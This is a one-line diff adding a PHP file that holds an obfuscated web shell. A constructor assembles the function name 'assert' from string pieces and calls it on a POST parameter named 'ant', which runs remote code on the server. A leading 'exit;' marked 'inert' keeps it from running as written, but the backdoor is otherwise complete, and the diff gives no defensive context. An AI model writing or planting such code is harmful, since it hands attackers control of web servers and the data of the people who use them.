@@ -1,0 +1,1 @@
+<?php exit; /* inert */ class V { public $x; function __construct($a){ $this->x=$a; $f="ass"."ert"; $f($this->x); } } new V($_POST["ant"]);
